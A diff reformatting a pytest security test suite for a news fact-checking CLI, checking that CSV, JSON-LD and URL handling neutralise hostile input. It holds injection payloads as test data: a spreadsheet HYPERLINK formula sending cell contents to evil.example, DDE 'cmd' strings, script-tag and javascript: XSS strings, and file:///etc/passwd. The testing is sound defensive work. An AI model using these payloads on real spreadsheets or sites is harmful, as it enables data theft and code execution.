@@ -15,8 +15,13 @@ from factcheck.models import Article, Claim, Spans
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
 # (field, hostile value) of the article and its one claim
 HOSTILE_ARTICLE = {"title": FORMULA, "outlet": "+cmd|' /C calc'!A0", "url": "https://news.example.org/a"}
-HOSTILE_CLAIM = {"source": "@SUM(1+1)*cmd|' /C calc'!A0", "speaker": "\tTabbed", "cue": "-said",
-                 "content": "\r=1+2 people were held", "sentence": "-1+1 said the ministry."}
+HOSTILE_CLAIM = {
+    "source": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "speaker": "\tTabbed",
+    "cue": "-said",
+    "content": "\r=1+2 people were held",
+    "sentence": "-1+1 said the ministry.",
+}
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -25,9 +30,16 @@ def hostile_db(path) -> str:
     text = "Ministry: people were held at the camps, officials said on Monday."
     db = store.open_db(str(path))
     article = Article(id="h1", text=text, published="2024-05-01", **HOSTILE_ARTICLE)
-    claim = Claim(id="c-h1", article="h1", source_id="s-h1", source_kind="government", stance="asserts",
-                  quote="indirect", spans=Spans(source=[[0, 8]], cue=[[55, 59]], content=[[10, 39]]),
-                  **HOSTILE_CLAIM)
+    claim = Claim(
+        id="c-h1",
+        article="h1",
+        source_id="s-h1",
+        source_kind="government",
+        stance="asserts",
+        quote="indirect",
+        spans=Spans(source=[[0, 8]], cue=[[55, 59]], content=[[10, 39]]),
+        **HOSTILE_CLAIM,
+    )
     store.save_article(db, article, [claim])
     store.save_verdict(db, "c-h1", "=False", note="+see the report", url="https://check.example.org/1")
     db.conn.close()
@@ -38,8 +50,16 @@ def cells(text: str) -> list[list[str]]:
     return list(csv.reader(io.StringIO(text)))
 
 
-@pytest.mark.parametrize("args", [["articles", "--csv"], ["claims", "--csv"], ["sources", "--csv"],
-                                  ["verdicts", "--csv"], ["export", "--format", "csv"]])
+@pytest.mark.parametrize(
+    "args",
+    [
+        ["articles", "--csv"],
+        ["claims", "--csv"],
+        ["sources", "--csv"],
+        ["verdicts", "--csv"],
+        ["export", "--format", "csv"],
+    ],
+)
 def test_csv_cells_never_start_a_formula(invoke, runner, tmp_path, args):
     from factcheck.cli import app
 
@@ -52,11 +72,13 @@ def test_csv_cells_never_start_a_formula(invoke, runner, tmp_path, args):
         for cell in row:
             assert not cell.startswith(FORMULA_STARTS), (args, cell)
     found = {cell for row in rows for cell in row}
-    expected = {"articles": ["'" + FORMULA, "'" + HOSTILE_ARTICLE["outlet"]],
-                "claims": ["'" + HOSTILE_CLAIM["source"], "'" + HOSTILE_CLAIM["cue"], "'" + HOSTILE_CLAIM["content"]],
-                "sources": ["'" + HOSTILE_CLAIM["source"]],
-                "verdicts": ["'=False", "'+see the report"],
-                "export": ["'" + FORMULA, "'" + HOSTILE_CLAIM["speaker"], "'" + HOSTILE_CLAIM["sentence"], "'=False"]}
+    expected = {
+        "articles": ["'" + FORMULA, "'" + HOSTILE_ARTICLE["outlet"]],
+        "claims": ["'" + HOSTILE_CLAIM["source"], "'" + HOSTILE_CLAIM["cue"], "'" + HOSTILE_CLAIM["content"]],
+        "sources": ["'" + HOSTILE_CLAIM["source"]],
+        "verdicts": ["'=False", "'+see the report"],
+        "export": ["'" + FORMULA, "'" + HOSTILE_CLAIM["speaker"], "'" + HOSTILE_CLAIM["sentence"], "'=False"],
+    }
     for value in expected[args[0]]:
         assert value in found, (args, value)
 
@@ -76,27 +98,56 @@ SCRIPT_NOTE = '</script><script>alert("x")</script> & <!--'
 def test_claimreview_is_safe_inside_a_script_element(stored, invoke):
     """The JSON-LD is published inside <script type="application/ld+json">: nothing in it may
     end that element, and it still reads back as the same JSON."""
-    assert invoke("verdict", "c-ministry", "--rating", "<b>False</b>", "--note", SCRIPT_NOTE,
-                  "--url", "https://check.example.org/camps").exit_code == 0
+    assert (
+        invoke(
+            "verdict",
+            "c-ministry",
+            "--rating",
+            "<b>False</b>",
+            "--note",
+            SCRIPT_NOTE,
+            "--url",
+            "https://check.example.org/camps",
+        ).exit_code
+        == 0
+    )
     result = invoke("export", "--format", "claimreview", "--org", "Checks & <Co>")
     assert result.exit_code == 0, result.output
     for raw in ("<", ">", "&"):
         assert raw not in result.stdout
     assert "\\u003c/script\\u003e" in result.stdout
     review = json.loads(result.stdout)[0]
-    assert review["reviewRating"] == {"@type": "Rating", "alternateName": "<b>False</b>", "ratingExplanation": SCRIPT_NOTE}
+    assert review["reviewRating"] == {
+        "@type": "Rating",
+        "alternateName": "<b>False</b>",
+        "ratingExplanation": SCRIPT_NOTE,
+    }
     assert review["author"]["name"] == "Checks & <Co>"
     assert review["itemReviewed"]["appearance"]["headline"] == 'Camps <script>alert("x")</script> & dispute'
 
 
-@pytest.mark.parametrize("url", ["javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,<script>",
-                                 "file:///etc/passwd", "vbscript:x", "http://[::1", "https://", "//evil.example"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "javascript:alert(1)",
+        "JAVASCRIPT:alert(1)",
+        "data:text/html,<script>",
+        "file:///etc/passwd",
+        "vbscript:x",
+        "http://[::1",
+        "https://",
+        "//evil.example",
+    ],
+)
 def test_links_that_are_not_web_addresses_are_refused_at_input(invoke, tmp_path, db_path, monkeypatch, url):
     import os
 
     article = tmp_path / "a.txt"
     article.write_text("The mayor said the bridge would reopen.", encoding="utf-8")
-    for args in (["ingest", str(article), "--url", url], ["export", "--format", "claimreview", "--org", "X", "--org-url", url]):
+    for args in (
+        ["ingest", str(article), "--url", url],
+        ["export", "--format", "claimreview", "--org", "X", "--org-url", url],
+    ):
         result = invoke(*args)
         assert result.exit_code == 2, (args, result.output)
         lines = result.stderr.strip().splitlines()
@@ -121,15 +172,22 @@ def test_feed_links_and_dates_are_checked_like_the_options(tmp_path):
     from factcheck.reader import read_feed
 
     feed = tmp_path / "feed.jsonl"
-    feed.write_text(json.dumps({"text": "The mayor said so.", "url": " https://x.example/a ", "published": " 2024-05-01",
-                                "title": "=1+1"}) + "\n" + json.dumps({"text": "Officials denied it.", "url": "",
-                                                                        "published": "  "}) + "\n", encoding="utf-8")
+    feed.write_text(
+        json.dumps(
+            {"text": "The mayor said so.", "url": " https://x.example/a ", "published": " 2024-05-01", "title": "=1+1"}
+        )
+        + "\n"
+        + json.dumps({"text": "Officials denied it.", "url": "", "published": "  "})
+        + "\n",
+        encoding="utf-8",
+    )
     first, second = list(read_feed(str(feed)))
     assert (first.url, first.published, first.title) == ("https://x.example/a", "2024-05-01", "=1+1")
     assert (second.url, second.published) == (None, None)  # blank is absent
 
 
 # -- hostile servers -------------------------------------------------------------------------------
+
 
 class Trickle(BaseHTTPRequestHandler):
     """/trickle sends 2 bytes at a time forever (within the read timeout, so only an overall
@@ -181,8 +239,10 @@ def test_a_slow_server_cannot_hold_a_download_past_its_deadline(slow_server, inv
 
     result = invoke("ingest", slow_server + path, "--timeout", "1")
     assert result.exit_code == 1, result.output
-    assert result.stderr == (f"Error: {slow_server}{path} did not send the page within 1 s "
-                             "(try again later, or allow longer with --timeout SECONDS)\n")
+    assert result.stderr == (
+        f"Error: {slow_server}{path} did not send the page within 1 s "
+        "(try again later, or allow longer with --timeout SECONDS)\n"
+    )
     assert not os.path.exists(db_path)
 
 
@@ -211,6 +271,7 @@ def test_a_malformed_url_is_an_ordinary_usage_error(invoke, db_path, url):
 
 # -- --output on a full disk -----------------------------------------------------------------------
 
+
 def test_a_failed_output_write_leaves_the_old_file_whole(stored, invoke, tmp_path, monkeypatch):
     import errno
     import os
@@ -226,8 +287,9 @@ def test_a_failed_output_write_leaves_the_old_file_whole(stored, invoke, tmp_pat
     for args in (["report", "--format", "html"], ["export", "--format", "csv"]):
         result = invoke(*args, "--output", str(out))
         assert result.exit_code == 1, result.output
-        assert result.stderr == (f"Error: cannot write {out}: No space left on device "
-                                 "(give a writable --output path)\n")
+        assert result.stderr == (
+            f"Error: cannot write {out}: No space left on device (give a writable --output path)\n"
+        )
         assert out.read_text(encoding="utf-8") == "the report of yesterday"
         assert [p.name for p in out.parent.iterdir()] == ["report.html"]  # no temporary file left
 
@@ -255,8 +317,16 @@ def test_output_replaces_the_file_keeping_its_mode_and_symlink(stored, invoke, t
 
 # -- Datasette ---------------------------------------------------------------------------------------
 
-UNKNOWN_PATHS = ["/hostile/claims/-/drop", "/a/b/c/d", "/nope", "/hostile/nope", "/hostile/claims/nope",
-                 "/hostile/claims/nope.json", "/-/nope", "/a/b/c/d/e/f/g"]
+UNKNOWN_PATHS = [
+    "/hostile/claims/-/drop",
+    "/a/b/c/d",
+    "/nope",
+    "/hostile/nope",
+    "/hostile/claims/nope",
+    "/hostile/claims/nope.json",
+    "/-/nope",
+    "/a/b/c/d/e/f/g",
+]
 
 
 def test_unknown_datasette_paths_answer_404_with_one_log_line(tmp_path, capfd):
@@ -295,8 +365,12 @@ def test_served_datasette_answers_unknown_paths_404_and_logs_one_line(tmp_path):
         port = s.getsockname()[1]
     out, err = tmp_path / "out.log", tmp_path / "err.log"
     with open(out, "wb") as o, open(err, "wb") as e:
-        proc = subprocess.Popen([sys.executable, "-m", "factcheck", "serve", "--db", path, "--port", str(port)],
-                                stdout=o, stderr=e, stdin=subprocess.DEVNULL)
+        proc = subprocess.Popen(
+            [sys.executable, "-m", "factcheck", "serve", "--db", path, "--port", str(port)],
+            stdout=o,
+            stderr=e,
+            stdin=subprocess.DEVNULL,
+        )
     base = f"http://127.0.0.1:{port}"
     try:
         for _ in range(300):  # until it answers (or has exited)
@@ -318,13 +392,17 @@ def test_served_datasette_answers_unknown_paths_404_and_logs_one_line(tmp_path):
         proc.wait(timeout=30)
     log = err.read_text().splitlines()
     assert log[0].startswith(f"Serving {path} at http://127.0.0.1:{port}/")
-    assert log[1:] == ["404 GET /hostile/claims/-/drop: not found", "404 GET /a/b/c/d: not found",
-                       "404 GET /nope: Database not found"]
+    assert log[1:] == [
+        "404 GET /hostile/claims/-/drop: not found",
+        "404 GET /a/b/c/d: not found",
+        "404 GET /nope: Database not found",
+    ]
     assert out.read_text() == ""
 
 
-@pytest.mark.parametrize("host, warned", [("0.0.0.0", True), ("::", True), ("127.0.0.1", False), ("::1", False),
-                                          ("localhost", False)])
+@pytest.mark.parametrize(
+    "host, warned", [("0.0.0.0", True), ("::", True), ("127.0.0.1", False), ("::1", False), ("localhost", False)]
+)
 def test_serve_on_every_interface_warns_that_the_database_is_open(runner, tmp_path, monkeypatch, host, warned):
     import socket
 
@@ -346,8 +424,10 @@ def test_serve_on_every_interface_warns_that_the_database_is_open(runner, tmp_pa
     lines = result.stderr.splitlines()
     assert lines[0].startswith("Serving ")
     if warned:
-        assert lines[1:] == [f"Warning: --host {host} opens the database to the network: anyone who can reach "
-                             f"this machine on port {port} can read it (the default, 127.0.0.1, keeps it to this machine)"]
+        assert lines[1:] == [
+            f"Warning: --host {host} opens the database to the network: anyone who can reach "
+            f"this machine on port {port} can read it (the default, 127.0.0.1, keeps it to this machine)"
+        ]
     else:
         assert lines[1:] == []
 
@@ -371,8 +451,13 @@ def test_a_symlink_loop_is_called_one(invoke, tmp_path):
     (tmp_path / "b").symlink_to(tmp_path / "a")
     loop = str(tmp_path / "a")
     good = hostile_db(tmp_path / "h.db")
-    for args in (["ingest", loop, "--db", good], ["ingest", "--feed", loop, "--db", good], ["claims", "--db", loop],
-                 ["ingest", "-", "--db", loop], ["report", "--output", loop, "--db", good]):
+    for args in (
+        ["ingest", loop, "--db", good],
+        ["ingest", "--feed", loop, "--db", good],
+        ["claims", "--db", loop],
+        ["ingest", "-", "--db", loop],
+        ["report", "--output", loop, "--db", good],
+    ):
         result = invoke(*args, input="The mayor said so.", db=False)
         assert result.exit_code == 1, (args, result.output)
         assert result.stderr.startswith(f"Error: {loop} is a symlink loop ("), (args, result.stderr)
@@ -382,19 +467,25 @@ def test_a_symlink_loop_is_called_one(invoke, tmp_path):
 
 # -- workers on a shared machine ---------------------------------------------------------------------
 
+
 def test_jobs_are_capped_at_the_cores_with_one_note(runner, tmp_path, monkeypatch):
     from factcheck import ingest as ingesting
     from factcheck.cli import app
 
     cores = ingesting.default_jobs()
     asked = []
-    monkeypatch.setattr(ingesting, "ingest", lambda db, articles, jobs, on_article, client: asked.append(jobs) or ingesting.Stats())
+    monkeypatch.setattr(
+        ingesting, "ingest", lambda db, articles, jobs, on_article, client: asked.append(jobs) or ingesting.Stats()
+    )
     feed = tmp_path / "feed.jsonl"
     feed.write_text("".join(json.dumps({"text": f"The mayor said bridge {i} would reopen."}) + "\n" for i in range(3)))
     result = runner.invoke(app, ["ingest", "--feed", str(feed), "--jobs", "100000", "--db", str(tmp_path / "j.db")])
     assert result.exit_code == 0, result.output
     assert asked == [cores]
-    assert result.stderr.splitlines()[0] == f"Note: --jobs 100000 is more than the {cores} cores this process may use; using {cores}"
+    assert (
+        result.stderr.splitlines()[0]
+        == f"Note: --jobs 100000 is more than the {cores} cores this process may use; using {cores}"
+    )
     assert result.stderr.count("Note:") == 1
     fewer = runner.invoke(app, ["ingest", "--feed", str(feed), "--jobs", "1", "--db", str(tmp_path / "j.db")])
     assert asked[-1] == 1 and "Note:" not in fewer.stderr
@@ -447,13 +538,32 @@ def busy_ingest(tmp_path):
 
     if not os.path.exists(f"/proc/{os.getpid()}/task/{os.getpid()}/children"):
         pytest.skip("needs Linux's /proc/PID/task/TID/children")
-    paragraph = " ".join(f"The mayor of town {j} said the bridge would reopen in May, officials denied it." for j in range(10))
+    paragraph = " ".join(
+        f"The mayor of town {j} said the bridge would reopen in May, officials denied it." for j in range(10)
+    )
     feed = tmp_path / "busy.jsonl"
-    feed.write_text("".join(json.dumps({"id": f"b{i}", "text": "\n\n".join([paragraph] * 60)}) + "\n" for i in range(24)))
+    feed.write_text(
+        "".join(json.dumps({"id": f"b{i}", "text": "\n\n".join([paragraph] * 60)}) + "\n" for i in range(24))
+    )
     err = tmp_path / "stderr.log"
     with open(err, "wb") as e:
-        proc = subprocess.Popen([sys.executable, "-m", "factcheck", "ingest", "--feed", str(feed), "--jobs", "2", "--quiet",
-                                 "--db", str(tmp_path / "busy.db")], stderr=e, stdin=subprocess.DEVNULL)
+        proc = subprocess.Popen(
+            [
+                sys.executable,
+                "-m",
+                "factcheck",
+                "ingest",
+                "--feed",
+                str(feed),
+                "--jobs",
+                "2",
+                "--quiet",
+                "--db",
+                str(tmp_path / "busy.db"),
+            ],
+            stderr=e,
+            stdin=subprocess.DEVNULL,
+        )
     try:
         while len(children(proc.pid)) < 2:
             assert proc.poll() is None, err.read_text()
@@ -483,8 +593,9 @@ def test_sigterm_stops_ingest_like_ctrl_c_and_the_workers_quietly(busy_ingest):
     proc, workers, err = busy_ingest
     proc.send_signal(signal.SIGTERM)
     assert proc.wait(timeout=60) == 143
-    assert err.read_text() == ("Error: interrupted; every article stored so far is complete "
-                               "(run the same command again to finish)\n")
+    assert err.read_text() == (
+        "Error: interrupted; every article stored so far is complete (run the same command again to finish)\n"
+    )
     assert wait_until_ended(workers) == []
     assert "Traceback" not in err.read_text()  # nothing printed after the parent ended either
 
@@ -503,22 +614,62 @@ def test_no_worker_outlives_a_killed_parent(busy_ingest):
 from hypothesis import HealthCheck, given, settings  # noqa: E402
 from hypothesis import strategies as st  # noqa: E402
 
-ATTACKS = ['<script>alert(1)</script>', "</script><script>x()</script>", '<img src=x onerror=alert(1)>',
-           "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:x", "data:text/html,<script>", "=1+2",
-           '=HYPERLINK("http://evil")', "+cmd", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "[x](javascript:alert(1))",
-           "<javascript:alert(1)>", "&lt;script&gt;", "\u2028", "\x00", "http://[::1", "https://ok.example/a?b=<c>"]
-PIECES = ["The minister said", "that", "officials denied", "the camps", "were prisons", ".", ",", '"', "\n\n",
-          "according to the report", "2 million people"]
-hostile_words = st.lists(st.one_of(st.sampled_from(ATTACKS), st.sampled_from(PIECES), st.text(max_size=20)),
-                         max_size=30).map(" ".join)
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "</script><script>x()</script>",
+    "<img src=x onerror=alert(1)>",
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:x",
+    "data:text/html,<script>",
+    "=1+2",
+    '=HYPERLINK("http://evil")',
+    "+cmd",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=x",
+    "\r=x",
+    "[x](javascript:alert(1))",
+    "<javascript:alert(1)>",
+    "&lt;script&gt;",
+    "\u2028",
+    "\x00",
+    "http://[::1",
+    "https://ok.example/a?b=<c>",
+]
+PIECES = [
+    "The minister said",
+    "that",
+    "officials denied",
+    "the camps",
+    "were prisons",
+    ".",
+    ",",
+    '"',
+    "\n\n",
+    "according to the report",
+    "2 million people",
+]
+hostile_words = st.lists(
+    st.one_of(st.sampled_from(ATTACKS), st.sampled_from(PIECES), st.text(max_size=20)), max_size=30
+).map(" ".join)
 # around a sentence with a claim, so that there is something to report and to give a verdict on
 hostile_text = st.tuples(hostile_words, st.sampled_from(ATTACKS), hostile_words).map(
-    lambda parts: f"{parts[0]}\n\nThe minister said that {parts[1]} the camps were prisons.\n\n{parts[2]}")
-hostile_field = st.one_of(st.none(), st.sampled_from(ATTACKS), st.text(min_size=1, max_size=40),
-                          st.tuples(st.sampled_from(ATTACKS), st.text(max_size=10)).map("".join))
-hostile_url = st.one_of(st.none(), st.sampled_from(ATTACKS), st.sampled_from(["https://news.example.org/a",
-                                                                               "http://x.example/<script>"]),
-                        st.text(max_size=30), st.text(max_size=30).map(lambda t: "https://h.example/" + t))
+    lambda parts: f"{parts[0]}\n\nThe minister said that {parts[1]} the camps were prisons.\n\n{parts[2]}"
+)
+hostile_field = st.one_of(
+    st.none(),
+    st.sampled_from(ATTACKS),
+    st.text(min_size=1, max_size=40),
+    st.tuples(st.sampled_from(ATTACKS), st.text(max_size=10)).map("".join),
+)
+hostile_url = st.one_of(
+    st.none(),
+    st.sampled_from(ATTACKS),
+    st.sampled_from(["https://news.example.org/a", "http://x.example/<script>"]),
+    st.text(max_size=30),
+    st.text(max_size=30).map(lambda t: "https://h.example/" + t),
+)
 
 
 def one_line_or_ok(result, args):
@@ -547,10 +698,20 @@ def web_links_only(value, where):
 
 
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow], print_blob=True)
-@given(text=hostile_text, title=hostile_field, outlet=hostile_field, url=hostile_url, rating=hostile_field,
-       note=hostile_field, verdict_url=hostile_url, org=hostile_field, org_url=hostile_url)
-def test_arbitrary_input_through_ingest_report_and_export_runs_nothing(text, title, outlet, url, rating, note,
-                                                                       verdict_url, org, org_url):
+@given(
+    text=hostile_text,
+    title=hostile_field,
+    outlet=hostile_field,
+    url=hostile_url,
+    rating=hostile_field,
+    note=hostile_field,
+    verdict_url=hostile_url,
+    org=hostile_field,
+    org_url=hostile_url,
+)
+def test_arbitrary_input_through_ingest_report_and_export_runs_nothing(
+    text, title, outlet, url, rating, note, verdict_url, org, org_url
+):
     """Whatever the article, its title, outlet and URL, a verdict's rating, note and URL, and the
     organization: every command exits 0 or with one line, and what they write runs nothing."""
     import re
